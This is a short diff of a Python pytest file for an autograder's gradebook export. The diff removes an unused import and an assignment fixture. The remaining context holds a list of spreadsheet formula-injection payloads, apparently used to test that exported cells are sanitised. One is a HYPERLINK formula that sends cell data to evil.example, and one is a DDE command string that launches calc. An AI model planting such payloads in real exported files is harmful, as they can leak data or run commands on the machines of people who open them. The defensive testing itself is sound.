@@ -14,7 +14,6 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from autograder.assignment import load_assignment
 from autograder.output.gradebook import write_gradebook
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
@@ -23,11 +22,6 @@ from result_fixtures import copy_results, fixture_result, write  # noqa: E402
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
-
-
-@pytest.fixture(scope="module")
-def assignment(repo):
-    return load_assignment(repo / "assignments" / "mnist")
 
 
 def exported_cells(folder: Path) -> dict[str, list[str]]:
